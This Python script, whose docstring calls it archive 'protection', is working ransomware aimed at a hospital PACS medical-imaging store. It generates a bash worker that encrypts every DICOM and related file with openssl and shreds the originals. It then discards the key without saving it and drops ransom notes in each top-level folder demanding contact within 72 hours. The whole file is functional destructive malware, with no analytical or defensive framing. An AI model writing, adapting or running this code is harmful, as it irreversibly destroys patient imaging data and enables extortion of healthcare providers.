#!/usr/bin/env python3
"""'Protect' the PACS study archive by encrypting it in place.

Walks the DICOM storage tree, generates a per-run key, writes a shell
worker that encrypts every object with openssl and shreds the original,
runs the worker, and leaves a restore notice in every top-level folder.
"""
import argparse
import logging
import os
import secrets
import subprocess
import sys
import tempfile

LOG = logging.getLogger("archive_protector")

DEFAULT_ROOT = "/srv/pacs/storage"
EXTENSIONS = (".dcm", ".DCM", ".ima", ".json", ".jpg", ".pdf")
NOTE_NAME = "RESTORE_STUDIES.txt"
NOTE_TEXT = """All imaging studies on this server have been encrypted.
Original files were securely erased. To obtain the restore key, e-mail
recover-pacs@example.net with the ID below within 72 hours.

ID: {run_id}
"""

WORKER = r"""#!/bin/bash
set -u
count=0
while IFS= read -r -d '' f; do
  if openssl enc -aes-256-cbc -pbkdf2 -salt -pass env:ARCHIVE_KEY \
       -in "$f" -out "$f.locked" 2>/dev/null; then
    shred -u -z "$f" 2>/dev/null || rm -f "$f"
    count=$((count + 1))
  fi
done
echo "$count"
"""


class ArchiveWalker:
    def __init__(self, root, extensions):
        self.root = root
        self.extensions = extensions
        self.skipped = 0

    def files(self):
        for dirpath, dirnames, filenames in os.walk(self.root):
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            for name in filenames:
                if name == NOTE_NAME or name.endswith(".locked"):
                    self.skipped += 1
                    continue
                if name.endswith(self.extensions) or "." not in name:
                    yield os.path.join(dirpath, name)


def write_worker():
    fd, path = tempfile.mkstemp(prefix="arch_worker_", suffix=".sh")
    with os.fdopen(fd, "w") as fh:
        fh.write(WORKER)
    os.chmod(path, 0o700)
    return path


def run_worker(worker, paths, key):
    env = dict(os.environ, ARCHIVE_KEY=key)
    feed = b"".join(p.encode() + b"\0" for p in paths)
    proc = subprocess.run(["bash", worker], input=feed, env=env,
                          capture_output=True)
    if proc.returncode != 0:
        LOG.error("worker failed: %s", proc.stderr.decode(errors="replace"))
        return 0
    try:
        return int(proc.stdout.decode().strip() or 0)
    except ValueError:
        return 0


def drop_notes(root, run_id):
    try:
        entries = [os.path.join(root, e) for e in os.listdir(root)]
    except OSError as exc:
        LOG.error("cannot list %s: %s", root, exc)
        return
    for d in [root] + [e for e in entries if os.path.isdir(e)]:
        try:
            with open(os.path.join(d, NOTE_NAME), "w") as fh:
                fh.write(NOTE_TEXT.format(run_id=run_id))
        except OSError:
            pass


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("root", nargs="?", default=DEFAULT_ROOT)
    ap.add_argument("--batch", type=int, default=500)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    if not os.path.isdir(args.root):
        LOG.error("%s is not a directory", args.root)
        return 2

    key = secrets.token_urlsafe(48)
    run_id = secrets.token_hex(8)
    walker = ArchiveWalker(args.root, EXTENSIONS)
    worker = write_worker()
    total, batch = 0, []
    try:
        for path in walker.files():
            batch.append(path)
            if len(batch) >= args.batch:
                total += run_worker(worker, batch, key)
                LOG.info("processed %d files", total)
                batch = []
        if batch:
            total += run_worker(worker, batch, key)
    finally:
        os.unlink(worker)
        del key  # key is never written anywhere
    drop_notes(args.root, run_id)
    LOG.info("protected %d files (skipped %d), run id %s", total, walker.skipped, run_id)
    return 0


if __name__ == "__main__":
    sys.exit(main())
